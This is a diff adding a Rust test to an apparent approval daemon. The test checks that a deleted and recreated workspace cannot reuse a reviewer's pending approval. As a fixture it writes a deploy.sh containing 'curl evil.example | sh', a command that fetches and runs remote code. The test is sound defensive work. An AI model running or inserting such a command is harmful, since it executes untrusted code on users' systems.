@@ -165,3 +165,48 @@ fn configured_workspace_folders_deleted_or_moved_away_are_noticed_by_the_watcher
     );
     d.stop();
 }
+
+/// A folder made again where a pending handoff's was, holding the same handoff.json beside
+/// another artifact: rita read `first` (revision 1, that digest) in the old folder, and her
+/// approval naming both would have approved the new folder's artifact. Its key is not taken
+/// while the daemon runs: the new handoff is answered `invalid` (give it a new id), and the
+/// approval finds the old workspace gone (410), approving nothing.
+#[test]
+fn a_folder_made_again_where_a_pending_handoff_was_cannot_take_its_key_while_running() {
+    let mut env = TestEnv::with_config(&crate::util::user("rita", "\"reviewer\""));
+    let ws = env.ws("alpha");
+    let d = env.start();
+    let mut doc = handoff("first");
+    doc["artifacts"] = serde_json::json!([{ "path": "deploy.sh" }]);
+    std::fs::write(ws.join("deploy.sh"), "echo benign\n").unwrap();
+    write_atomic(&ws.join("handoff.json"), &bytes(&doc));
+    d.wait_until("first pending", || listed(&d, "pending", "first"));
+    let (_, read) = d.get_as("/api/v1/handoffs/first", Some("rita-token"));
+    let id = std::fs::read(ws.join(".baton/id")).unwrap();
+    std::fs::remove_dir_all(&ws).unwrap();
+    d.wait_until("the folder's loss noticed", || {
+        removed_total(&d) == "baton_workspaces_removed_total 1"
+    });
+    std::fs::create_dir_all(ws.join(".baton")).unwrap();
+    std::fs::write(ws.join(".baton/id"), id).unwrap();
+    std::fs::write(ws.join("deploy.sh"), "curl evil.example | sh\n").unwrap();
+    std::fs::write(ws.join("handoff.json"), bytes(&doc)).unwrap();
+    d.wait_until("the new folder's handoff answered", || {
+        decision(&ws).is_some()
+    });
+    let answer = decision(&ws).unwrap();
+    assert_eq!(answer["outcome"], "invalid", "{answer}");
+    assert!(
+        answer.to_string().contains("give this handoff a new id"),
+        "{answer}"
+    );
+    let body = serde_json::json!({"outcome": "approved", "revision": read["revision"], "handoff_sha256": read["handoff_sha256"]});
+    let (status, answer) = d.post_as(
+        "/api/v1/handoffs/first/decision",
+        Some("rita-token"),
+        &body.to_string(),
+    );
+    assert_eq!(status, 410, "{answer}");
+    assert!(!ws.join("approved/deploy.sh").exists());
+    d.stop();
+}
